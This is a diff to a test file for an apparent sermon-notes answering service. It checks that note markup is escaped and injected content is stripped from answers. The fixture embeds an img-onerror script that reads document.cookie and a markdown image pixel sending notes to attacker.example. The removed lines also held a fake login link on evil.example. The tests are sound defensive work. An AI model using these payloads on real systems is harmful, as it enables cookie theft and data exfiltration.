@@ -30,8 +30,11 @@ date: 2024-03-10
 speaker: Pastor Miriam Okafor
 series: Hebrews
 ---
-Faith moved Abraham to leave Haran <img src=x onerror=alert(document.cookie)> without a map, \
-see ![pixel](https://attacker.example/log?d=notes) and [login](https://evil.example/login).
+<b>Faith</b> moved Abraham to leave Haran <i>without a map</i>, see \
+[the map](https://maps.example.org/haran).
+
+The card had <img src=x onerror=alert(document.cookie)> and \
+![pixel](https://attacker.example/log?d=notes) pasted in.
 
 Abraham kept walking when the road was unclear.
 """
@@ -122,7 +125,10 @@ def test_finding14_note_markup_in_the_answer_is_escaped(served: Served) -> None:
     r = served.ask({"query": "What moved Abraham to leave Haran?"})
     assert r.status_code == 200, r.text
     answer = r.json()["answer"]
-    assert "Faith moved Abraham" in answer, answer  # the mock quoted the note
-    assert "<img" not in answer and "&lt;img src=x onerror=alert(document.cookie)&gt;" in answer
-    assert "![" not in answer and "attacker.example" not in answer and "(image: pixel)" in answer
-    assert "](" not in answer
+    # the mock quoted the note's first sentence: its markup arrives escaped, its link defused
+    # and dropped (the question asked for none)
+    assert "&lt;b&gt;Faith&lt;/b&gt; moved Abraham" in answer, answer
+    assert "<b>" not in answer and "](" not in answer and "maps.example.org" not in answer
+    assert "the map (link removed)" in answer
+    # the pasted image tags never reached the model: the note guard left that sentence out
+    assert "onerror" not in answer and "attacker.example" not in answer
